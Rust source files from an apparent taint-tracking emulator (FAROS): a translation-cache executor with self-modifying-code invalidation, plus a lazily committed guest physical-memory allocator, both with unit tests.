/// than this are split (the executor chains across the split seamlessly).
const MAX_BLOCK_INSNS: usize = 64;

/// One predecoded instruction: everything `Cpu::step` derives from the code
/// bytes, captured once at build time.
#[derive(Debug, Clone, Copy)]
struct CachedInsn {
    vaddr: u32,
    len: u8,
    instr: Instr,
    code_phys: [u32; MAX_INSTR_LEN],
    flows: FlowSummary,
}

/// A straight-line run of predecoded instructions.
#[derive(Debug)]
struct CachedBlock {
    asid: Asid,
    entry: u32,
    insns: Vec<CachedInsn>,
    /// Last observed successor block (direct block-to-block chaining). The
    /// hint is validated against `(asid, entry)` before use, so a stale or
    /// alternating edge (e.g. a conditional branch) falls back to the map.
    succ: Option<usize>,
}

/// Translation-cache counters, mirrored into the `tc.*` metrics.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct TcStats {
    /// Block lookups served from the cache.
    pub hits: u64,
    /// Block lookups that had to decode.
    pub misses: u64,
    /// Whole-cache invalidations (code writes, mapping changes).
    pub invalidations: u64,
    /// Blocks decoded (misses that produced at least one instruction).
    pub blocks_built: u64,
    /// Block runs whose flow dispatch was elided via the block taint plan.
    pub elided_blocks: u64,
}

/// Watches stores for writes into frames that back cached code.
///
/// The watch is consulted from inside the hook stack (shared reference), so
/// the "a cached frame was written" signal is a [`Cell`] the owning
/// [`TransCache`] drains between blocks.
#[derive(Debug, Default)]
struct CodeWatch {
    /// `code_frames[pfn]` is set when any cached block was decoded from
    /// bytes on that physical frame.
    code_frames: Vec<bool>,
    /// Set by the executor's hook shim when a store hit a watched frame.
    pending: Cell<bool>,
}

impl CodeWatch {
    fn watches(&self, pfn: u32) -> bool {
        self.code_frames.get(pfn as usize).copied().unwrap_or(false)
    }

    fn mark(&mut self, pfn: u32) {
        let i = pfn as usize;
        if self.code_frames.len() <= i {
            self.code_frames.resize(i + 1, false);
        }
        self.code_frames[i] = true;
    }

    fn note_phys(&self, phys: &[u32]) {
        for &p in phys {
            if self.watches(page_number(p)) {
                self.pending.set(true);
            }
        }
    }
}

/// The per-machine decoded-block cache. See the module docs for the key
/// scheme and invalidation rules.
#[derive(Debug, Default)]
pub struct TransCache {
    map: HashMap<(Asid, u32), usize>,
    blocks: Vec<CachedBlock>,
    watch: CodeWatch,
    version: u64,
    stats: TcStats,
}

impl TransCache {
    /// Creates an empty cache.
    pub fn new() -> TransCache {
        TransCache::default()
    }

    /// Lookup / decode / invalidation counters.
    pub fn stats(&self) -> TcStats {
        self.stats
    }

    /// The code version: bumped on every invalidation, so `(asid, VA,
    /// version)` names the decoded bytes a block was built from.
    pub fn version(&self) -> u64 {
        self.version
    }

    /// Drops every cached block and bumps the code version.
    pub fn invalidate_all(&mut self) {
        // Cheap when already empty (repeated mapping changes at boot).
        if self.map.is_empty() && self.watch.code_frames.is_empty() {
            self.watch.pending.set(false);
            return;
        }
        self.map.clear();
        self.blocks.clear();
        self.watch.code_frames.clear();
        self.watch.pending.set(false);
        self.version += 1;
        self.stats.invalidations += 1;
    }

    /// Reports a physical-memory write performed outside guest execution
    /// (syscall service, DMA-style kernel copies). Invalidates if the run
    /// `[start, start + len)` overlaps any frame holding cached code.
    pub fn note_write(&mut self, start: u32, len: u32) {
        if len == 0 {
            return;
        }
        let first = page_number(start);
        let last = page_number(start.saturating_add(len - 1));
        for pfn in first..=last {
            if self.watch.watches(pfn) {
                self.invalidate_all();
                return;
            }
        }
    }

    /// Drains the executor's pending-write signal, invalidating when a guest
    /// store hit cached code. Returns `true` if the cache was flushed.
    fn flush_if_pending(&mut self) -> bool {
        if self.watch.pending.get() {
            self.invalidate_all();
            true
        } else {
            false
        }
    }

    fn lookup_or_build(
        &mut self,
        mem: &PhysMem,
        aspace: &AddressSpace,
        asid: Asid,
        entry: u32,
        prev: Option<usize>,
    ) -> Result<usize, StepEvent> {
        // Chained edge first: no hashing when the last block already
        // recorded where control went.
        if let Some(p) = prev {
            if let Some(s) = self.blocks[p].succ {
                let b = &self.blocks[s];
                if b.asid == asid && b.entry == entry {
                    self.stats.hits += 1;
                    return Ok(s);
                }
            }
        }
        if let Some(&idx) = self.map.get(&(asid, entry)) {
            self.stats.hits += 1;
            if let Some(p) = prev {
                self.blocks[p].succ = Some(idx);
            }
            return Ok(idx);
        }
        self.stats.misses += 1;
        let idx = self.build_block(mem, aspace, asid, entry)?;
        if let Some(p) = prev {
            self.blocks[p].succ = Some(idx);
        }
        Ok(idx)
    }

    fn build_block(
        &mut self,
        mem: &PhysMem,
        aspace: &AddressSpace,
        asid: Asid,
        entry: u32,
    ) -> Result<usize, StepEvent> {
        let mut insns = Vec::new();
        let mut va = entry;
        loop {
            let (instr, len, code_phys) = match Cpu::fetch_decode(mem, aspace, va) {
                Ok(ok) => ok,
                // The entry itself is unfetchable: surface the event (the
                // interpreter would report exactly this from `step`).
                Err(ev) if insns.is_empty() => return Err(ev),
                // A later instruction is unfetchable: end the block here.
                // The executor falls off the end, re-enters lookup at the
                // bad address, and the entry case reports the event.
                Err(_) => break,
            };
            for &p in &code_phys[..len] {
                self.watch.mark(page_number(p));
            }
            insns.push(CachedInsn {
                vaddr: va,
                len: len as u8,
                instr,
                code_phys,
                flows: FlowSummary::of_instr(&instr),
            });
            if instr.ends_block() || insns.len() >= MAX_BLOCK_INSNS {
                break;
            }
            va = va.wrapping_add(len as u32);
        }
        let idx = self.blocks.len();
        self.blocks.push(CachedBlock { asid, entry, insns, succ: None });
        self.map.insert((asid, entry), idx);
        self.stats.blocks_built += 1;
        Ok(idx)
    }
}

/// The executor's per-block hook shim: watches stores for self-modifying
/// code and, when the block's flows are elided, swallows the per-op flow
/// calls (the executor replays the block plan through
/// [`CpuHooks::flow_block_end`] instead). Non-flow events and `flow_flags`
/// always pass through, so observers see the exact interpreter event stream.
struct BlockHooks<'a, H: CpuHooks> {
    inner: &'a mut H,
    watch: &'a CodeWatch,
    elide: bool,
}

impl<H: CpuHooks> CpuHooks for BlockHooks<'_, H> {
    fn on_insn(&mut self, ctx: &InsnCtx) {
        self.inner.on_insn(ctx);
    }
    fn flow_copy(&mut self, dst: ShadowLoc, src: ShadowLoc, len: u8) {
        if !self.elide {
            self.inner.flow_copy(dst, src, len);
        }
    }
    fn flow_union(&mut self, dst: ShadowLoc, dst_len: u8, srcs: &[(ShadowLoc, u8)], keep_dst: bool) {
        if !self.elide {
            self.inner.flow_union(dst, dst_len, srcs, keep_dst);
        }
    }
    fn flow_delete(&mut self, dst: ShadowLoc, len: u8) {
        if !self.elide {
            self.inner.flow_delete(dst, len);
        }
    }
    fn flow_addr_dep(&mut self, dst: ShadowLoc, dst_len: u8, addr_srcs: &[(ShadowLoc, u8)]) {
        if !self.elide {
            self.inner.flow_addr_dep(dst, dst_len, addr_srcs);
        }
    }
    fn flow_addr_dep_bytes(&mut self, phys: &[u32], addr_srcs: &[(ShadowLoc, u8)]) {
        if !self.elide {
            self.inner.flow_addr_dep_bytes(phys, addr_srcs);
        }
    }
    fn flow_load(&mut self, dst: Reg, phys: &[u32]) {
        if !self.elide {
            self.inner.flow_load(dst, phys);
        }
    }
    fn flow_store(&mut self, phys: &[u32], src: Reg) {
        self.watch.note_phys(phys);
        if !self.elide {
            self.inner.flow_store(phys, src);
        }
    }
    fn flow_delete_mem(&mut self, phys: &[u32]) {
        self.watch.note_phys(phys);
        if !self.elide {
            self.inner.flow_delete_mem(phys);
        }
    }
    fn on_load(&mut self, ctx: &InsnCtx, vaddr: u32, phys: &[u32], width: Width, dst: Reg) {
        self.inner.on_load(ctx, vaddr, phys, width, dst);
    }
    fn on_store(&mut self, ctx: &InsnCtx, vaddr: u32, phys: &[u32], width: Width, src: Reg) {
        self.inner.on_store(ctx, vaddr, phys, width, src);
    }
    fn on_control(&mut self, ctx: &InsnCtx, target: u32, target_src: Option<ShadowLoc>) {
        self.inner.on_control(ctx, target, target_src);
    }
    fn on_branch(&mut self, ctx: &InsnCtx, taken: bool) {
        self.inner.on_branch(ctx, taken);
    }
    fn flow_flags(&mut self, srcs: &[(ShadowLoc, u8)]) {
        self.inner.flow_flags(srcs);
    }
    // flow_block_begin / flow_block_end keep their defaults: the executor
    // talks to the real hook stack directly, never through the shim.
}

impl Cpu {
    /// Executes up to `fuel` instructions through the translation cache.
    ///
    /// Observably identical to calling [`Cpu::step`] `fuel` times and
    /// stopping at the first event a scheduler acts on: every hook fires in
    /// the same order with the same arguments, except that per-op flow hooks
    /// inside a block may be replaced by one [`CpuHooks::flow_block_end`]
    /// when [`CpuHooks::flow_block_begin`] granted elision.
    ///
    /// Returns the number of instructions retired and the event that ended
    /// the run: [`StepEvent::Syscall`], [`StepEvent::Halt`],
    /// [`StepEvent::Fault`], [`StepEvent::Illegal`] — or
    /// [`StepEvent::Normal`] when the fuel ran out.
    pub fn run_cached<H: CpuHooks>(
        &mut self,
        mem: &mut PhysMem,
        aspace: &AddressSpace,
        tc: &mut TransCache,
        hooks: &mut H,
        fuel: u32,
    ) -> (u32, StepEvent) {
        let mut executed = 0u32;
        let mut prev: Option<usize> = None;
        while executed < fuel {
            if tc.flush_if_pending() {
                prev = None;
            }
            let entry = self.context().eip;
            let asid = self.asid();
            let idx = match tc.lookup_or_build(mem, aspace, asid, entry, prev) {
                Ok(idx) => idx,
                Err(ev) => return (executed, ev),
            };
            let elide = hooks.flow_block_begin();
            if elide {
                tc.stats.elided_blocks += 1;
            }
            let mut acc = FlowSummary::default();
            let mut event = StepEvent::Normal;
            let mut terminal = false;
            {
                let block = &tc.blocks[idx];
                let mut shim = BlockHooks { inner: hooks, watch: &tc.watch, elide };
                for insn in &block.insns {
                    if executed >= fuel {
                        break;
                    }
                    debug_assert_eq!(self.context().eip, insn.vaddr);
                    let ctx = InsnCtx {
                        vaddr: insn.vaddr,
                        code_phys: insn.code_phys,
                        len: insn.len,
                        instr: insn.instr,
                        asid,
                        retired: self.retired(),
                    };
                    shim.inner.on_insn(&ctx);
                    event = self.exec_instr(mem, aspace, &mut shim, &ctx);
                    if matches!(event, StepEvent::Fault(_)) {
                        // Precise fault: nothing retired, no flows fired.
                        terminal = true;
                        break;
                    }
                    self.retire_one();
                    executed += 1;
                    if elide {
                        acc.add(&insn.flows);
                    }
                    match event {
                        StepEvent::Normal => {
                            // A store hit cached code: stop before the next
                            // (possibly stale) instruction and re-decode.
                            if shim.watch.pending.get() {
                                break;
                            }
                        }
                        StepEvent::Branch => break,
                        _ => {
                            terminal = true;
                            break;
                        }
                    }
                }
            }
            if elide && !acc.is_empty() {
                hooks.flow_block_end(&acc);
            }
            if terminal {
                return (executed, event);
            }
            prev = Some(idx);
        }
        (executed, StepEvent::Normal)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::Asm;
    use crate::cpu::NoHooks;
    use crate::mem::PAGE_SIZE;
    use crate::mmu::Perms;

    fn machine(code: &Asm) -> (Cpu, PhysMem, AddressSpace) {
        let mut mem = PhysMem::new(16);
        let code_frame = mem.alloc_frame().unwrap();
        let data_frame = mem.alloc_frame().unwrap();
        let stack_frame = mem.alloc_frame().unwrap();
        let mut aspace = AddressSpace::new(Asid(0x1000));
        aspace.map(0x1000, code_frame, Perms::RX);
        aspace.map(0x2000, data_frame, Perms::RW);
        aspace.map(0x3000, stack_frame, Perms::RW);
        let bytes = code.clone().assemble().unwrap();
        assert!(bytes.len() <= PAGE_SIZE as usize);
        mem.write(code_frame * PAGE_SIZE, &bytes).unwrap();
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = 0x1000;
        cpu.set_reg(Reg::Esp, 0x4000);
        cpu.set_asid(Asid(0x1000));
        (cpu, mem, aspace)
    }

    fn fib_program() -> Asm {
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 0);
        a.mov_ri(Reg::Ebx, 1);
        a.mov_ri(Reg::Ecx, 12);
        a.label("loop");
        a.mov_rr(Reg::Edx, Reg::Eax);
        a.add_ri(Reg::Edx, 0);
        a.mov_rr(Reg::Eax, Reg::Ebx);
        a.push(Reg::Ebx);
        a.pop(Reg::Esi);
        a.add_ri(Reg::Edx, 0);
        a.st4(crate::isa::Mem::abs(0x2000), Reg::Esi);
        a.ld4(Reg::Esi, crate::isa::Mem::abs(0x2000));
        a.sub_ri(Reg::Ecx, 1);
        a.cmp_ri(Reg::Ecx, 0);
        a.jnz("loop");
        a.hlt();
        a
    }

    #[test]
    fn cached_run_matches_interpreter_state_and_events() {
        let a = fib_program();
        let (mut ic, mut imem, iaspace) = machine(&a);
        let mut interp_events = Vec::new();
        loop {
            let ev = ic.step(&mut imem, &iaspace, &mut NoHooks);
            interp_events.push(ev);
            if ev == StepEvent::Halt {
                break;
            }
        }
        let (mut cc, mut cmem, caspace) = machine(&a);
        let mut tc = TransCache::new();
        let (executed, ev) =
            cc.run_cached(&mut cmem, &caspace, &mut tc, &mut NoHooks, u32::MAX);
        assert_eq!(ev, StepEvent::Halt);
        assert_eq!(executed as usize, interp_events.len());
        assert_eq!(cc.context(), ic.context());
        assert_eq!(cc.retired(), ic.retired());
        assert!(tc.stats().hits > 0, "loop body must hit the cache");
        assert!(tc.stats().misses >= 1);
    }

    #[test]
    fn fuel_is_respected_and_resumable() {
        let a = fib_program();
        let (mut ic, mut imem, iaspace) = machine(&a);
        for _ in 0..7 {
            ic.step(&mut imem, &iaspace, &mut NoHooks);
        }
        let (mut cc, mut cmem, caspace) = machine(&a);
        let mut tc = TransCache::new();
        // Same budget split across awkward quantum sizes.
        let mut left = 7u32;
        while left > 0 {
            let quantum = left.min(3);
            let (n, ev) = cc.run_cached(&mut cmem, &caspace, &mut tc, &mut NoHooks, quantum);
            assert_eq!(n, quantum);
            assert_eq!(ev, StepEvent::Normal);
            left -= n;
        }
        assert_eq!(cc.context(), ic.context());
        assert_eq!(cc.retired(), ic.retired());
    }

    #[test]
    fn guest_store_into_cached_code_invalidates_and_reexecutes() {
        // Self-modifying code: run a mov, then patch its immediate in
        // place and jump back; the second pass must see the new bytes.
        let mut a2 = Asm::new(0x1000);
        a2.label("start");
        a2.mov_ri(Reg::Eax, 11); // imm32 at 0x1002..0x1006, patched to 99
        a2.cmp_ri(Reg::Ebx, 1);
        a2.jz("done");
        a2.mov_ri(Reg::Ecx, 99);
        a2.mov_ri(Reg::Ebx, 1);
        a2.st4(crate::isa::Mem::abs(0x1002), Reg::Ecx);
        a2.jmp("start");
        a2.label("done");
        a2.hlt();
        let mut mem = PhysMem::new(8);
        let code_frame = mem.alloc_frame().unwrap();
        let mut aspace = AddressSpace::new(Asid(0x1000));
        // RWX so the guest may patch itself (the W^X lints in the analysis
        // layers are exactly what flags this in real workloads).
        aspace.map(0x1000, code_frame, Perms::RWX);
        mem.write(code_frame * PAGE_SIZE, &a2.assemble().unwrap()).unwrap();
        let run = |mem: &mut PhysMem, cached: bool| -> (u32, u64) {
            let mut cpu = Cpu::new();
            cpu.context_mut().eip = 0x1000;
            cpu.set_asid(Asid(0x1000));
            if cached {
                let mut tc = TransCache::new();
                let (_, ev) =
                    cpu.run_cached(mem, &aspace, &mut tc, &mut NoHooks, u32::MAX);
                assert_eq!(ev, StepEvent::Halt);
                assert!(tc.stats().invalidations >= 1, "SMC must invalidate");
            } else {
                while cpu.step(mem, &aspace, &mut NoHooks) != StepEvent::Halt {}
            }
            (cpu.reg(Reg::Eax), cpu.retired())
        };
        let mut mem2 = mem.clone();
        let (interp_eax, interp_retired) = run(&mut mem, false);
        let (cached_eax, cached_retired) = run(&mut mem2, true);
        assert_eq!(interp_eax, 99, "second pass executes the patched imm");
        assert_eq!((cached_eax, cached_retired), (interp_eax, interp_retired));
    }

    #[test]
    fn kernel_note_write_invalidates_overlapping_frames() {
        let mut a = Asm::new(0x1000);
        a.nop();
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        let mut tc = TransCache::new();
        let (_, ev) = cpu.run_cached(&mut mem, &aspace, &mut tc, &mut NoHooks, u32::MAX);
        assert_eq!(ev, StepEvent::Halt);
        let v0 = tc.version();
        // A write to a non-code frame does not invalidate.
        tc.note_write(2 * PAGE_SIZE, 16);
        assert_eq!(tc.version(), v0);
        // A write overlapping the code frame does.
        tc.note_write(10, 2);
        assert_eq!(tc.version(), v0 + 1);
        assert_eq!(tc.stats().invalidations, 1);
    }

    #[test]
    fn elision_replays_the_block_plan_once() {
        #[derive(Default)]
        struct ElideProbe {
            grants: u32,
            per_op: u32,
            summaries: Vec<FlowSummary>,
        }
        impl CpuHooks for ElideProbe {
            fn flow_block_begin(&mut self) -> bool {
                self.grants += 1;
                true
            }
            fn flow_block_end(&mut self, flows: &FlowSummary) {
                self.summaries.push(*flows);
            }
            fn flow_copy(&mut self, _d: ShadowLoc, _s: ShadowLoc, _l: u8) {
                self.per_op += 1;
            }
            fn flow_delete(&mut self, _d: ShadowLoc, _l: u8) {
                self.per_op += 1;
            }
            fn flow_load(&mut self, _d: Reg, _p: &[u32]) {
                self.per_op += 1;
            }
            fn flow_store(&mut self, _p: &[u32], _s: Reg) {
                self.per_op += 1;
            }
            fn flow_delete_mem(&mut self, _p: &[u32]) {
                self.per_op += 1;
            }
            fn flow_union(&mut self, _d: ShadowLoc, _l: u8, _s: &[(ShadowLoc, u8)], _k: bool) {
                self.per_op += 1;
            }
        }
        let mut a = Asm::new(0x1000);
        a.mov_ri(Reg::Eax, 1);
        a.mov_rr(Reg::Ebx, Reg::Eax);
        a.hlt();
        let (mut cpu, mut mem, aspace) = machine(&a);
        let mut tc = TransCache::new();
        let mut probe = ElideProbe::default();
        let (_, ev) = cpu.run_cached(&mut mem, &aspace, &mut tc, &mut probe, u32::MAX);
        assert_eq!(ev, StepEvent::Halt);
        assert_eq!(probe.per_op, 0, "granted elision suppresses per-op flows");
        assert_eq!(probe.grants, 1);
        let expect = FlowSummary {
            copy_ops: 1,
            copy_bytes: 4,
            delete_ops: 1,
            delete_bytes: 4,
            ..FlowSummary::default()
        };
        assert_eq!(probe.summaries, vec![expect]);
        assert_eq!(tc.stats().elided_blocks, 1);
    }
}
