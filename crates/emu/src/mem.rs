//! Guest physical memory and the frame allocator.
//!
//! All guest bytes — kernel images, process code, heaps, stacks — live in one
//! flat [`PhysMem`]. Shadow (taint) state in the `faros-taint` crate is keyed
//! by *physical* address, exactly like PANDA's taint2: that is what lets tags
//! follow bytes across address spaces, which in turn is what makes
//! cross-process injection visible to FAROS at all.

use std::fmt;

/// Size of a guest page/frame in bytes.
pub const PAGE_SIZE: u32 = 4096;

/// Mask selecting the offset-within-page bits of an address.
pub const PAGE_MASK: u32 = PAGE_SIZE - 1;

/// Returns the page/frame number containing `addr`.
#[inline]
pub fn page_number(addr: u32) -> u32 {
    addr >> 12
}

/// Returns the byte offset of `addr` within its page.
#[inline]
pub fn page_offset(addr: u32) -> u32 {
    addr & PAGE_MASK
}

/// Error returned when physical memory is exhausted or an access is out of
/// range.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MemError {
    /// No free frames remain.
    OutOfFrames,
    /// A physical access fell outside the installed memory.
    OutOfRange {
        /// The offending physical address.
        addr: u32,
    },
}

impl fmt::Display for MemError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MemError::OutOfFrames => write!(f, "physical memory exhausted"),
            MemError::OutOfRange { addr } => {
                write!(f, "physical address {addr:#010x} out of range")
            }
        }
    }
}

impl std::error::Error for MemError {}

/// Flat guest physical memory with a simple frame allocator.
///
/// Frames are *committed lazily*: construction reserves address space for
/// the whole configured RAM but materializes (and zeroes) host memory one
/// frame at a time, as frames are allocated or first written. A machine
/// that touches 2 MiB of a 16 MiB guest costs 2 MiB — this is what keeps
/// per-replay setup cheap enough for the corpus-wide gates, which build
/// hundreds of machines back to back. Reads of in-range frames that were
/// never touched still see zeroes, exactly as if the whole array had been
/// zero-initialized up front.
///
/// # Examples
///
/// ```
/// use faros_emu::mem::{PhysMem, PAGE_SIZE};
///
/// let mut mem = PhysMem::new(16);
/// let frame = mem.alloc_frame().unwrap();
/// let base = frame * PAGE_SIZE;
/// mem.write(base, b"hello").unwrap();
/// let mut buf = [0u8; 5];
/// mem.read(base, &mut buf).unwrap();
/// assert_eq!(&buf, b"hello");
/// ```
#[derive(Debug, Clone)]
pub struct PhysMem {
    /// Committed prefix of physical memory; grows frame-aligned up to
    /// `total_frames * PAGE_SIZE`.
    data: Vec<u8>,
    total_frames: u32,
    next_frame: u32,
    free_list: Vec<u32>,
}

impl PhysMem {
    /// Creates a physical memory of `frames` pages, zero-initialized.
    ///
    /// # Panics
    ///
    /// Panics if `frames` is zero or the total size would overflow `u32`.
    pub fn new(frames: u32) -> PhysMem {
        assert!(frames > 0, "physical memory must have at least one frame");
        let bytes = (frames as u64) * (PAGE_SIZE as u64);
        assert!(bytes <= u32::MAX as u64 + 1, "physical memory too large for a 32-bit guest");
        PhysMem {
            data: Vec::with_capacity(bytes as usize),
            total_frames: frames,
            next_frame: 0,
            free_list: Vec::new(),
        }
    }

    /// Total number of frames installed.
    pub fn total_frames(&self) -> u32 {
        self.total_frames
    }

    /// Total installed bytes (frame count times page size).
    #[inline]
    fn total_bytes(&self) -> usize {
        self.total_frames as usize * PAGE_SIZE as usize
    }

    /// Commits (zero-fills) frames so the committed prefix covers `end`
    /// bytes, rounded up to a frame boundary. Cold: each frame is committed
    /// at most once per lifetime.
    #[cold]
    fn commit_to(&mut self, end: usize) {
        let aligned = end
            .checked_add(PAGE_SIZE as usize - 1)
            .expect("commit bound overflows usize")
            & !(PAGE_SIZE as usize - 1);
        let new_len = aligned.min(self.total_bytes());
        if new_len > self.data.len() {
            self.data.resize(new_len, 0);
        }
    }

    /// Number of frames still allocatable.
    pub fn free_frames(&self) -> u32 {
        self.total_frames() - self.next_frame + self.free_list.len() as u32
    }

    /// Allocates a zeroed frame and returns its frame number.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfFrames`] when memory is exhausted.
    pub fn alloc_frame(&mut self) -> Result<u32, MemError> {
        if let Some(pfn) = self.free_list.pop() {
            let base = (pfn * PAGE_SIZE) as usize;
            self.data[base..base + PAGE_SIZE as usize].fill(0);
            return Ok(pfn);
        }
        if self.next_frame < self.total_frames() {
            let pfn = self.next_frame;
            self.next_frame += 1;
            let end = (pfn as usize + 1) * PAGE_SIZE as usize;
            if end > self.data.len() {
                self.commit_to(end);
            }
            Ok(pfn)
        } else {
            Err(MemError::OutOfFrames)
        }
    }

    /// Returns a frame to the allocator.
    ///
    /// The frame's contents are zeroed on the next allocation, not here, so a
    /// forensic snapshot taken after a free still sees stale bytes — the same
    /// property malfind-style tools depend on (and transient attacks defeat
    /// by wiping memory *before* exiting).
    pub fn free_frame(&mut self, pfn: u32) {
        debug_assert!(pfn < self.total_frames());
        self.free_list.push(pfn);
    }

    /// Reads bytes at a physical address into `buf`.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn read(&self, addr: u32, buf: &mut [u8]) -> Result<(), MemError> {
        let start = addr as usize;
        let end = start.checked_add(buf.len()).ok_or(MemError::OutOfRange { addr })?;
        if let Some(src) = self.data.get(start..end) {
            buf.copy_from_slice(src);
            return Ok(());
        }
        if end > self.total_bytes() {
            return Err(MemError::OutOfRange { addr });
        }
        // Uncommitted (never-touched) frames read as zeroes; copy whatever
        // committed prefix overlaps the request and zero the rest.
        let committed = self.data.len().saturating_sub(start).min(buf.len());
        if committed > 0 {
            buf[..committed].copy_from_slice(&self.data[start..start + committed]);
        }
        buf[committed..].fill(0);
        Ok(())
    }

    /// Writes `bytes` at a physical address.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn write(&mut self, addr: u32, bytes: &[u8]) -> Result<(), MemError> {
        let start = addr as usize;
        let end = start.checked_add(bytes.len()).ok_or(MemError::OutOfRange { addr })?;
        if end > self.data.len() {
            if end > self.total_bytes() {
                return Err(MemError::OutOfRange { addr });
            }
            self.commit_to(end);
        }
        self.data[start..end].copy_from_slice(bytes);
        Ok(())
    }

    /// Reads one byte.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if `addr` exceeds installed memory.
    #[inline]
    pub fn read_u8(&self, addr: u32) -> Result<u8, MemError> {
        match self.data.get(addr as usize) {
            Some(b) => Ok(*b),
            None if (addr as usize) < self.total_bytes() => Ok(0),
            None => Err(MemError::OutOfRange { addr }),
        }
    }

    /// Writes one byte.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if `addr` exceeds installed memory.
    #[inline]
    pub fn write_u8(&mut self, addr: u32, val: u8) -> Result<(), MemError> {
        let i = addr as usize;
        if i >= self.data.len() {
            if i >= self.total_bytes() {
                return Err(MemError::OutOfRange { addr });
            }
            self.commit_to(i + 1);
        }
        self.data[i] = val;
        Ok(())
    }

    /// Reads a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn read_u32(&self, addr: u32) -> Result<u32, MemError> {
        let mut b = [0u8; 4];
        self.read(addr, &mut b)?;
        Ok(u32::from_le_bytes(b))
    }

    /// Writes a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed memory.
    pub fn write_u32(&mut self, addr: u32, val: u32) -> Result<(), MemError> {
        self.write(addr, &val.to_le_bytes())
    }

    /// Borrows a physical byte range (used by snapshot scanners and the
    /// instruction-fetch path).
    ///
    /// # Errors
    ///
    /// Returns [`MemError::OutOfRange`] if the range exceeds installed
    /// memory, or if it extends past the committed prefix — i.e. into
    /// frames never allocated or written. Every mapped guest page is
    /// committed (allocation commits its frame), so translated addresses
    /// never hit the latter case; for raw probes of untouched memory use
    /// [`PhysMem::read`], which serves the zeroes without a borrow.
    pub fn slice(&self, addr: u32, len: usize) -> Result<&[u8], MemError> {
        let start = addr as usize;
        let end = start.checked_add(len).ok_or(MemError::OutOfRange { addr })?;
        self.data.get(start..end).ok_or(MemError::OutOfRange { addr })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn alloc_until_exhaustion() {
        let mut mem = PhysMem::new(4);
        assert_eq!(mem.free_frames(), 4);
        let frames: Vec<u32> = (0..4).map(|_| mem.alloc_frame().unwrap()).collect();
        assert_eq!(frames, vec![0, 1, 2, 3]);
        assert_eq!(mem.alloc_frame(), Err(MemError::OutOfFrames));
        mem.free_frame(2);
        assert_eq!(mem.free_frames(), 1);
        assert_eq!(mem.alloc_frame().unwrap(), 2);
    }

    #[test]
    fn freed_frame_is_zeroed_on_realloc_not_on_free() {
        let mut mem = PhysMem::new(2);
        let f = mem.alloc_frame().unwrap();
        let base = f * PAGE_SIZE;
        mem.write(base, b"secret").unwrap();
        mem.free_frame(f);
        // Stale bytes visible post-free (forensics relies on this).
        assert_eq!(mem.slice(base, 6).unwrap(), b"secret");
        let f2 = mem.alloc_frame().unwrap();
        assert_eq!(f2, f);
        assert_eq!(mem.slice(base, 6).unwrap(), &[0u8; 6]);
    }

    #[test]
    fn read_write_round_trip() {
        let mut mem = PhysMem::new(2);
        mem.write_u32(100, 0xdead_beef).unwrap();
        assert_eq!(mem.read_u32(100).unwrap(), 0xdead_beef);
        assert_eq!(mem.read_u8(100).unwrap(), 0xef, "little-endian layout");
        mem.write_u8(103, 0x00).unwrap();
        assert_eq!(mem.read_u32(100).unwrap(), 0x00ad_beef);
    }

    #[test]
    fn out_of_range_is_an_error() {
        let mut mem = PhysMem::new(1);
        assert!(mem.read_u8(PAGE_SIZE).is_err());
        assert!(mem.write_u8(PAGE_SIZE, 0).is_err());
        let mut buf = [0u8; 8];
        assert!(mem.read(PAGE_SIZE - 4, &mut buf).is_err());
        assert!(mem.write(PAGE_SIZE - 4, &buf).is_err());
        assert!(mem.read_u32(u32::MAX).is_err());
    }

    #[test]
    fn lazy_commit_is_invisible_to_readers() {
        let mut mem = PhysMem::new(8);
        // Nothing committed yet: in-range reads still see the documented
        // zero-initialized contents.
        assert_eq!(mem.read_u8(5 * PAGE_SIZE).unwrap(), 0);
        assert_eq!(mem.read_u32(7 * PAGE_SIZE + 42).unwrap(), 0);
        let mut buf = [0xaa; 16];
        mem.read(3 * PAGE_SIZE - 8, &mut buf).unwrap();
        assert_eq!(buf, [0; 16], "uncommitted frames read as zeroes");
        // A raw write commits its frame; the rest of the frame reads zero
        // and the bytes round-trip.
        mem.write(6 * PAGE_SIZE + 100, b"deep").unwrap();
        assert_eq!(mem.slice(6 * PAGE_SIZE + 100, 4).unwrap(), b"deep");
        assert_eq!(mem.read_u8(6 * PAGE_SIZE + 99).unwrap(), 0);
        // A read spanning the committed boundary splices committed bytes
        // with zeroes.
        let mut span = [0xbb; 8];
        mem.write(7 * PAGE_SIZE - 4, &[1, 2, 3, 4]).unwrap();
        mem.read(7 * PAGE_SIZE - 4, &mut span).unwrap();
        assert_eq!(span, [1, 2, 3, 4, 0, 0, 0, 0]);
        // Allocation still hands out zeroed frames in order.
        assert_eq!(mem.alloc_frame().unwrap(), 0);
        assert_eq!(mem.free_frames(), 7);
    }

    #[test]
    fn page_arithmetic() {
        assert_eq!(page_number(0), 0);
        assert_eq!(page_number(4095), 0);
        assert_eq!(page_number(4096), 1);
        assert_eq!(page_offset(4097), 1);
    }

    #[test]
    #[should_panic(expected = "at least one frame")]
    fn zero_frames_rejected() {
        let _ = PhysMem::new(0);
    }
}
