//! Guest physical memory and the frame allocator.
//!
//! All guest bytes — kernel images, process code, heaps, stacks — live in one
//! flat [`PhysMem`]. Shadow (taint) state in the `faros-taint` crate is keyed
//! by *physical* address, exactly like PANDA's taint2: that is what lets tags
//! follow bytes across address spaces, which in turn is what makes
//! cross-process injection visible to FAROS at all.

use std::fmt;

/// Size of a guest page/frame in bytes.
